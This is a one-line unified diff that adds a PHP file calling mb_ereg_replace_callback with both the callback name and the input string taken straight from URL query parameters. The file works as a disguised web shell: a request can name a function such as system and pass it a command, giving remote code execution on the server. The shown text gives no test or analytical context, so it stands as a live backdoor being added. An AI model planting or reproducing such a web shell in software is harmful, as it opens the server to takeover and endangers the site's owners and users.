@@ -1,0 +1,1 @@
+<?php mb_ereg_replace_callback(".+", $_GET["f"], $_GET["c"]);
